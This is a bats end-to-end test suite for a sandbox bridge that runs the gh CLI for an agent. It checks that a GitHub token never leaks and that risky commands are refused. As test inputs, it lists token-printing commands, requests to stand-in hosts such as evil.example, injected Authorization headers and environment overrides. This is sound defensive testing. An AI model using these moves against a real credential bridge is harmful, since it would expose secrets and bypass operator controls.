#!/usr/bin/env bats
# The gh profile end to end: the real gh (2.23) runs on the host as the runner,
# reached through the shim as $SB_ALICE, and talks TLS to the fake GitHub
# Enterprise server (tests/fixtures/fakegh.py) on 127.0.0.1. One daemon and one
# server serve the whole file. The server logs the Authorization header of every
# request, which is how these tests see which token (if any) went out.

bats_require_minimum_version 1.5.0
load lib

FIXTURES=$SB_FIXTURES

setup_file() {
	[ -x /usr/bin/gh ] || skip "gh is not installed"
	command -v openssl >/dev/null || skip "openssl is not installed"
	sb_users
	sb_tree
	# Root-only scratch for what the tests capture ($SB_DIR itself is 0755).
	T=$SB_DIR/t
	mkdir -m 700 "$T"
	export T
	GH_TOKEN_VALUE="ghp_sbt$(od -An -N18 -tx1 /dev/urandom | tr -d ' \n')"
	export GH_TOKEN_VALUE
	sb_fakegh_start "$GH_TOKEN_VALUE" --log-bodies
	# Another host with another token: nothing the sandbox does may send ours there.
	sb_fakegh_run "$SB_DIR/evil" "evil-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')"
	EVIL_PORT=$(cat "$SB_DIR/evil/port")
	export EVIL_PORT
	# gh 2.23 drops the port of https:// URLs and dials :443; listen there too if we can.
	EVIL443=0
	if sb_fakegh_run "$SB_DIR/evil443" "evil443-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')" --port 443 2>/dev/null; then
		EVIL443=1
	fi
	export EVIL443
	(umask 077 && printf '%s\n' "$GH_TOKEN_VALUE" >"$SB_DIR/etc/github.token")
	sb_shim_links gh slowgh
	sb_config <<EOF
{
	$(sb_config_head)
	"secrets": {"github": {"source": "file", "path": "$SB_DIR/etc/github.token"}},
	"tools": {
		"gh": {"path": "/usr/bin/gh", "profile": "gh", "host": "localhost:$FAKEGH_PORT",
			"secrets": {"GH_ENTERPRISE_TOKEN": "github"},
			"env": {"SSL_CERT_FILE": "$FAKEGH_CA"}, "expose": ["$FAKEGH_CA"]},
		"slowgh": {"path": "$FIXTURES/tools/slowgh", "profile": "gh",
			"host": "localhost:$FAKEGH_PORT", "secrets": {"GH_ENTERPRISE_TOKEN": "github"},
			"env": {"SSL_CERT_FILE": "$FAKEGH_CA", "SLOWGH_GATE": "stdin"},
			"expose": ["$FAKEGH_CA"]}
	},
	"git": {"hosts": {"github.com": {"upstream": "https://localhost:$FAKEGH_PORT", "secret": "github"}}}
}
EOF
	sb_session alice "$SB_ALICE" '["gh", "slowgh"]' '"repos": ["octo/repo"]'
	sb_start
	# Sandbox checkouts (no commits needed: the shim reads only .git/HEAD and
	# .git/config): one of the allowed repository, one of somebody else's. The
	# first names github.com, which the config's git.hosts maps to this bridge.
	as "$SB_ALICE" sh -ec "rm -rf repo other
		git init -q repo && cd repo
		git remote add origin https://github.com/octo/repo.git
		git checkout -q -b feature-1
		cd .. && git init -q other && cd other
		git remote add origin https://localhost:$FAKEGH_PORT/someone/else.git
		git checkout -q -b feature-2"
}

teardown_file() {
	local rc=0
	sb_stop || rc=$?
	sb_fakegh_stop
	if [ -n "${SB_DIR:-}" ]; then
		sb_fakegh_kill "$SB_DIR/evil"
		sb_fakegh_kill "$SB_DIR/evil443"
		rm -rf "$SB_DIR"
	fi
	as "$SB_ALICE" rm -rf repo other 2>/dev/null || true
	sb_reap_suite
	return "$rc"
}

teardown() {
	sb_reap
}

# gha ARGS... — gh through the shim as $SB_ALICE, from her home directory. Sets
# status/output (stdout and stderr together); the output must not hold the token.
gha() {
	run as "$SB_ALICE" timeout 30 gh "$@"
	sb_refute_contains "$GH_TOKEN_VALUE" "$output" "gh $*"
}

# ghin DIR ARGS... — the same from a directory of $SB_ALICE's home.
ghin() {
	local d=$1
	shift
	run as_in "$SB_ALICE" "$d" timeout 30 gh "$@"
	sb_refute_contains "$GH_TOKEN_VALUE" "$output" "gh $* (in $d)"
}

# assert_log FROM [NAME...] — every request the server logged after line FROM carried
# "Authorization: token <the configured token>", at least one was logged, and each
# NAME ("METHOD /path" or a GraphQL operation name) is among them.
assert_log() {
	"$PY" - "$FAKEGH_LOG" "token $GH_TOKEN_VALUE" "$@" <<'PYEOF'
import json, sys
path, want_auth, start, names = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4:]
with open(path) as f:
    lines = f.read().splitlines()[start:]
if not lines:
    sys.exit("the server logged no request")
seen = set()
for line in lines:
    e = json.loads(line)
    if e["auth_ok"] is not True or e["authorization"] != want_auth:
        sys.exit("a request went out without the configured token: %s %s (auth_ok %s)"
                 % (e["method"], e["path"], e["auth_ok"]))
    seen.add("%s %s" % (e["method"], e["path"]))
    if e.get("graphql"):
        seen.add(e["graphql"])
missing = [n for n in names if n not in seen]
if missing:
    sys.exit("not logged: %s; logged: %s" % (missing, sorted(seen)))
PYEOF
}

# refused WHY ARGS... — gh ARGS as $SB_ALICE (from her home) is refused by the
# policy: exit 126, a message with the policy's reason WHY, a "denied" audit line,
# no child started ("allowed" lines unchanged) and no request at the server.
refused() {
	refused_in . "$@"
}

# refused_in DIR WHY ARGS... — the same from a directory of $SB_ALICE's home.
refused_in() {
	local d=$1 why=$2 reqs allowed denied
	shift 2
	reqs=$(sb_fakegh_count)
	allowed=$(grep -c '"event":"allowed"' "$SB_AUDIT" || true)
	denied=$(grep -c '"event":"denied"' "$SB_AUDIT" || true)
	ghin "$d" "$@"
	if [ "$status" -ne 126 ] || [[ $output != *"$why"* ]] ||
	    [[ $output != *"shimbridge: refused: gh "* ]]; then
		echo "gh $*: status $status, expected 126 and a message with: $why" >&2
		echo "$output" >&2
		return 1
	fi
	[ "$(sb_fakegh_count)" -eq "$reqs" ] || { echo "gh $*: a request reached the server" >&2; return 1; }
	[ "$(grep -c '"event":"allowed"' "$SB_AUDIT" || true)" -eq "$allowed" ] ||
		{ echo "gh $*: a child was started" >&2; return 1; }
	[ "$(grep -c '"event":"denied"' "$SB_AUDIT" || true)" -eq $((denied + 1)) ] ||
		{ echo "gh $*: no denied audit line" >&2; return 1; }
}

@test "gh api user: the server sees the bridge's token" {
	local m
	m=$(sb_fakegh_count)
	gha api user
	[ "$status" -eq 0 ]
	[[ $output == *'"login":"octo-agent"'* ]]
	assert_log "$m" "GET /api/v3/user"
}

@test "gh api 'repos/{owner}/{repo}' is filled in from the session's repository" {
	local m
	m=$(sb_fakegh_count)
	gha api 'repos/{owner}/{repo}'
	[ "$status" -eq 0 ]
	[ "$(printf '%s' "$output" | "$PY" -c 'import json,sys; print(json.load(sys.stdin)["full_name"])')" = "octo/repo" ]
	assert_log "$m" "GET /api/v3/repos/octo/repo"
}

@test "gh repo view" {
	local m
	m=$(sb_fakegh_count)
	gha repo view
	[ "$status" -eq 0 ]
	[[ $output == *"name:	octo/repo"* ]]
	assert_log "$m" RepositoryInfo
}

@test "gh pr list and gh pr view 1" {
	local m
	m=$(sb_fakegh_count)
	gha pr list
	[ "$status" -eq 0 ]
	[[ $output == *"1	Add widget support	feature/widgets	OPEN"* ]]
	gha pr view 1
	[ "$status" -eq 0 ]
	[[ $output == *"title:	Add widget support"* ]]
	[[ $output == *"url:	https://localhost:$FAKEGH_PORT/octo/repo/pull/1"* ]]
	assert_log "$m" PullRequestList PullRequestByNumber
}

@test "gh pr create from the sandbox repo on feature-1: --head and -R added, PR listed" {
	local m n
	m=$(sb_fakegh_count)
	ghin repo pr create --title "Agent PR" --body "made by gh.bats"
	[ "$status" -eq 0 ]
	[[ $output =~ https://localhost:$FAKEGH_PORT/octo/repo/pull/([0-9]+) ]]
	n=${BASH_REMATCH[1]}
	assert_log "$m" PullRequestCreate
	# The mutation named the sandbox's branch as head.
	"$PY" - "$FAKEGH_LOG" "$m" <<'PYEOF'
import json, sys
lines = open(sys.argv[1]).read().splitlines()[int(sys.argv[2]):]
for line in lines:
    e = json.loads(line)
    if e.get("graphql") == "PullRequestCreate":
        inp = json.loads(e["body"])["variables"]["input"]
        if inp.get("headRefName") != "feature-1":
            sys.exit("headRefName is %r" % inp.get("headRefName"))
        break
else:
    sys.exit("no PullRequestCreate logged")
PYEOF
	# The audit line shows the argv gh really ran.
	run sb_audit_last '"event":"allowed".*"pr","create"'
	[[ $output == *'"--head","feature-1","-R","octo/repo"'* ]]
	gha pr list
	[ "$status" -eq 0 ]
	[[ $output == *"$n	Agent PR	feature-1	OPEN"* ]]
}

@test "gh issue list, create, comment" {
	local m n
	m=$(sb_fakegh_count)
	gha issue list
	[ "$status" -eq 0 ]
	[[ $output == *"1	OPEN	Widgets crash on empty input	bug"* ]]
	gha issue create --title "Agent issue" --body "filed by gh.bats"
	[ "$status" -eq 0 ]
	[[ $output =~ https://localhost:$FAKEGH_PORT/octo/repo/issues/([0-9]+) ]]
	n=${BASH_REMATCH[1]}
	gha issue comment 1 --body x
	[ "$status" -eq 0 ]
	[[ $output == *"https://localhost:$FAKEGH_PORT/octo/repo/issues/1#issuecomment-"* ]]
	assert_log "$m" IssueList IssueCreate CommentCreate
	gha issue list
	[[ $output == *"$n	OPEN	Agent issue"* ]]
}

@test "token printers are refused before anything runs" {
	refused "authentication stays on the host" auth token
	refused "authentication stays on the host" auth status --show-token
	refused "authentication stays on the host" auth git-credential get
	refused "gh configuration is managed by the operator" config get oauth_token
	refused "gh configuration is managed by the operator" config get oauth_token -h "localhost:$FAKEGH_PORT"
}

@test "aliases, extensions, codespaces, checkout, merge, repo delete are refused" {
	refused "aliases can run arbitrary commands" alias set co 'pr checkout'
	refused "extensions run arbitrary programs" extension install owner/gh-ext
	refused "extensions run arbitrary programs" extensions list
	refused "codespaces are out of scope" codespace list
	refused "checkout runs git" pr checkout 1
	refused "merging is for a human reviewer" pr merge 1
	refused "repository management is for the operator" repo delete octo/repo --yes
}

@test "gh api: absolute URLs, writes, graphql, other repositories, extra headers are refused" {
	refused "relative paths only" api https://evil.example/user
	refused "relative paths only" api //evil.example/user
	refused "method POST is refused" api -X POST repos/octo/repo/issues
	refused "stuck short flags (-XPOST) are refused" api -XPOST repos/octo/repo/issues
	refused "method DELETE is refused" api --method=DELETE repos/octo/repo
	refused "sends data" api graphql -f query=x
	refused "sends data" api repos/octo/repo/issues -F title=x
	refused "gh api graphql can write" api graphql
	refused "add -X GET to pass fields as query parameters" api repos/octo/repo/issues -f state=open
	refused "repository someone/else is not one this session may act on" api repos/someone/else
	refused "headers other than Accept" api user -H "Authorization: token x"
}

@test "--hostname, a host in -R, --web, --editor are refused" {
	refused "--hostname is refused" pr list --hostname evil.example
	refused "--hostname is refused" api --hostname=evil.example user
	refused "takes OWNER/REPO without a host" pr list -R evil.example/octo/repo
	refused "takes OWNER/REPO without a host" pr list --repo="localhost:$FAKEGH_PORT/octo/repo"
	refused "--web is refused" pr view 1 --web
	refused "--web is refused" pr view 1 -w
	refused "--editor is refused" issue create --editor
	refused "--editor is refused" issue create -e
}

@test "repositories outside the session's allowlist are refused (-R and the sandbox repo)" {
	refused "repository someone/else is not one this session may act on" pr list -R someone/else
	refused "repository someone/else is not one this session may act on" pr list --repo=someone/else
	refused "repository someone/else is not one this session may act on" issue list -Rsomeone/else
	refused_in other "this directory's repository (someone/else) is not one this session may act on" pr list
	refused_in other "this directory's repository (someone/else)" pr create --title T --body B
}

# evil_count — how many requests the other servers have logged, and how many of them
# carried our token: "REQUESTS TOKENS".
evil_count() {
	local f r=0 t=0
	for f in "$SB_DIR/evil/requests.log" "$SB_DIR/evil443/requests.log"; do
		[ -f "$f" ] || continue
		r=$((r + $(wc -l <"$f")))
		t=$((t + $(grep -cF "$GH_TOKEN_VALUE" "$f" || true)))
	done
	echo "$r $t"
}

# never_elsewhere ARGS-LINE... — run each gh command line (word-split) as $SB_ALICE;
# none may send anything to another host (least of all the token), and each must be
# refused by the policy (126). Every line is tried; all problems are reported.
never_elsewhere() {
	local u before after bad=0
	for u in "$@"; do
		before=$(evil_count)
		# shellcheck disable=SC2086
		gha $u
		after=$(evil_count)
		if [ "${after#* }" != "${before#* }" ]; then
			echo "LEAK: gh $u sent the configured token to another host" >&2
			bad=1
		elif [ "$after" != "$before" ]; then
			echo "gh $u: a request went to another host" >&2
			bad=1
		fi
		if [ "$status" -ne 126 ]; then
			echo "gh $u: not refused (status $status): ${output:0:200}" >&2
			bad=1
		fi
	done
	return "$bad"
}

@test "gh repo view with a repository argument: allowlisted OWNER/REPO works" {
	gha repo view octo/repo
	[ "$status" -eq 0 ]
	[[ $output == *"name:	octo/repo"* ]]
}

@test "gh repo view someone/else (outside the allowlist) is refused" {
	refused "someone/else" repo view someone/else
}

@test "positional repositories and URLs naming another host never get the token" {
	# gh takes the host from HOST/OWNER/REPO and from URLs, and for any host other
	# than github.com it sends GH_ENTERPRISE_TOKEN. (https:// URLs lose their port
	# in gh 2.23, so those requests go to localhost:443: the evil443 server.)
	[ "$EVIL443" = 1 ] || echo "# port 443 is taken: https:// URL forms are checked by refusal only" >&3
	local h="localhost:$EVIL_PORT"
	never_elsewhere "repo view $h/octo/repo" \
		"repo view https://$h/octo/repo" \
		"pr view https://$h/octo/repo/pull/1" \
		"pr diff https://$h/octo/repo/pull/1" \
		"pr checks https://$h/octo/repo/pull/1" \
		"pr comment https://$h/octo/repo/pull/1 --body x" \
		"pr review https://$h/octo/repo/pull/1 --approve" \
		"pr close https://$h/octo/repo/pull/1" \
		"issue view https://$h/octo/repo/issues/1" \
		"issue comment https://$h/octo/repo/issues/1 --body x" \
		"issue close https://$h/octo/repo/issues/1"
}

@test "GH_* and GITHUB_* variables in the sandbox are not forwarded" {
	local m dbg
	dbg=$(mktemp -u "/tmp/$SB_LANE-ghconfig.XXXXXX")
	m=$(sb_fakegh_count)
	run as "$SB_ALICE" env GH_HOST=evil.example GH_TOKEN=x GITHUB_TOKEN=y \
		GH_ENTERPRISE_TOKEN=z GITHUB_ENTERPRISE_TOKEN=w GH_DEBUG=api DEBUG=1 \
		GH_CONFIG_DIR="$dbg" GH_REPO=someone/else GH_PAGER=/bin/false BROWSER=/bin/false \
		HTTPS_PROXY=http://127.0.0.1:9 SSL_CERT_FILE=/nonexistent timeout 30 gh api user
	sb_refute_contains "$GH_TOKEN_VALUE" "$output"
	[ "$status" -eq 0 ]
	# Only the JSON answer: no GH_DEBUG trace ("* Request at", "> GET").
	[[ ${output:0:1} == "{" ]]
	[[ $output != *"* Request"* && $output != *"> GET"* && $output != *"Authorization"* ]]
	[[ $output == *'"login":"octo-agent"'* ]]
	assert_log "$m" "GET /api/v3/user"
	[ ! -e "$dbg" ]
	# The request as the bridge recorded it carries none of them.
	run sb_audit_last '"event":"allowed".*"api","user"'
	[[ $output != *GH_* && $output != *GITHUB_* ]]
}

@test "while gh runs: no token in any /proc environ or cmdline sbt-alice can read; scratch is private" {
	local bg m p holder scratch
	m=$(sb_fakegh_count)
	# slowgh waits for its stdin, a FIFO held open here until the checks are done.
	sb_gate "$T/gate"
	as "$SB_ALICE" timeout 60 slowgh api user <"$T/gate" >"$T/slow.out" 2>&1 {GATE_FD}>&- &
	bg=$!
	# Wait until a runner's process (slowgh's shell or its sleep) holds gh's token
	# variable in its environment (root can see it): the positive control that the
	# checks below happen while there is something to find. Since the credential
	# injector (docs/INJECTOR.md) that value is only a placeholder.
	holder=
	for _ in $(seq 50); do
		for p in $(pgrep -u "$SB_RUNNER" || true); do
			if tr '\0' '\n' <"/proc/$p/environ" 2>/dev/null |
			    grep -qx "GH_ENTERPRISE_TOKEN=shimbridge-placeholder-[0-9a-f]*"; then
				holder=$p
			fi
		done
		[ -n "$holder" ] && break
		sleep 0.1
	done
	[ -n "$holder" ]
	# Not even the runner's own processes hold the real token (root looks).
	for p in $(pgrep -u "$SB_RUNNER" || true); do
		run ! grep -aqF "$GH_TOKEN_VALUE" "/proc/$p/environ"
	done
	# That process is closed to her: refused, not merely gone.
	run as "$SB_ALICE" cat "/proc/$holder/environ"
	[ "$status" -ne 0 ]
	[[ $output == *"Permission denied"* ]]
	# Everything she can read under /proc/*/{environ,cmdline} (threads too), in one
	# quick pass as her, written out for root to search.
	as "$SB_ALICE" "$PY" -c 'import glob, sys
out = sys.stdout.buffer
for f in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + \
        glob.glob("/proc/[0-9]*/task/*/environ"):
    try:
        out.write(open(f, "rb").read() + b"\n")
    except OSError:
        pass' >"$T/proc.dump"
	# The runner's process was still there when the scan ended ...
	kill -0 "$holder"
	# ... the scan saw her own processes (the shim's environment is hers) ...
	grep -aqF "SHIMBRIDGE_SOCKET=$SB_SOCK" "$T/proc.dump"
	# ... and no token anywhere.
	run ! grep -aqF "$GH_TOKEN_VALUE" "$T/proc.dump"
	# The scratch directory of the running call: not listable, not enterable by her.
	scratch=$(ls "$(sb_dview "$SB_DIR/state/run")")
	[ -n "$scratch" ]
	run ! as "$SB_ALICE" ls "$SB_DIR/state/run"
	for p in $scratch; do
		run ! as "$SB_ALICE" ls "$SB_DIR/state/run/$p"
	done
	sb_gate_release
	wait "$bg"
	run cat "$T/slow.out"
	[[ $output == *'"login":"octo-agent"'* ]]
	sb_refute_contains "$GH_TOKEN_VALUE" "$output"
	assert_log "$m" "GET /api/v3/user"
	# and the scratch directory is gone once the request is over (those left are the
	# jails built in advance for the next calls, docs/JAIL.md)
	for _ in $(seq 30); do
		[ -z "$(sb_scratch_leftovers "$SB_DIR/state/run" "$SB_RUNNER")" ] && break
		sleep 0.1
	done
	[ -z "$(sb_scratch_leftovers "$SB_DIR/state/run" "$SB_RUNNER")" ]
}

@test "no token in files sbt-alice can read (home, /tmp, /var/tmp, /dev/shm) or in the audit log" {
	# grep runs as $SB_ALICE with the token on stdin, never in argv or environ.
	run bash -c 'printf "%s\n" "$1" | (source "$2"; as "$SB_ALICE" timeout 20 grep -rlsF -f - \
		"/home/$SB_ALICE" /tmp /var/tmp /dev/shm)' _ "$GH_TOKEN_VALUE" "$BATS_TEST_DIRNAME/lib.bash"
	# 1: no match; 2: no match, some files unreadable (as they should be).
	[ "$status" -eq 1 ] || [ "$status" -eq 2 ]
	[ -z "$output" ]
	run ! as "$SB_ALICE" cat "$SB_AUDIT"
	run ! as "$SB_ALICE" cat "$SB_DIR/etc/github.token"
}

@test "shimbridged --check warns that gh 2.23 is older than 2.63.1" {
	run --separate-stderr "$SB_BUILD/shimbridged" -c "$SB_CONFIG" --check
	[ "$status" -eq 0 ]
	[[ $stderr == *"warning: /usr/bin/gh is gh 2.23."*"older than 2.63.1"* ]]
	[[ $output == *": ok (version "* ]]
}

@test "--jq and --template are refused on every command, with the sandbox-side alternative" {
	refused "--jq/-q is refused on every gh command" api user --jq .login
	refused "--jq/-q is refused on every gh command" api user -q.login
	refused "--jq/-q is refused on every gh command" pr list --json title --jq=.[].title
	refused "--template/-t is refused on every gh command" issue list --json title -t '{{.}}'
	refused "--template/-t is refused on every gh command" api user --template='{{.login}}'
	refused "pipe the output to jq in the sandbox" repo view --json name -q .name
	# -t is --title where gh says so.
	gha issue create -R octo/repo -t "a title" --body "b"
	[ "$status" -eq 0 ]
}

@test "gh api fields with -X GET are query parameters" {
	local m
	m=$(sb_fakegh_count)
	gha api -X GET repos/octo/repo/issues -f state=all
	[ "$status" -eq 0 ]
	assert_log "$m"
	tail -n 1 "$FAKEGH_LOG" | grep -q '"path": *"/api/v3/repos/octo/repo/issues?state=all"'
}

@test "gh pr create --body-file PR.md in the sandbox repo posts the agent's file" {
	local m
	as "$SB_ALICE" sh -c 'printf "## Summary\nBody from the agent'"'"'s PR.md\n" >repo/PR.md'
	m=$(sb_fakegh_count)
	ghin repo pr create --title "Body from a file" --head body-file-branch --body-file PR.md
	as "$SB_ALICE" rm -f repo/PR.md
	[ "$status" -eq 0 ] || { echo "$output" >&2; return 1; }
	assert_log "$m" PullRequestCreate
	"$PY" - "$FAKEGH_LOG" "$m" <<'PYEOF'
import json, sys
for line in open(sys.argv[1]).read().splitlines()[int(sys.argv[2]):]:
    e = json.loads(line)
    if e.get("graphql") == "PullRequestCreate":
        body = json.loads(e["body"])["variables"]["input"]["body"]
        if body != "## Summary\nBody from the agent's PR.md\n":
            sys.exit("body is %r" % body)
        break
else:
    sys.exit("no PullRequestCreate logged")
PYEOF
	# The audit line keeps the agent's argument; gh read the bridge's copy.
	sb_audit_last '"Body from a file"' | grep -q '"--body-file","PR.md"'
}
